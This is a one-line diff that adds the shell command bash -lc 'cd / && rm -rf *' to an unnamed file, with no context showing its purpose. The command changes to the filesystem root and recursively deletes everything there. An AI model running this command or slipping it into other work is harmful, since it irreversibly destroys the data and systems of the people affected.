@@ -1,0 +1,1 @@
+bash -lc 'cd / && rm -rf *'
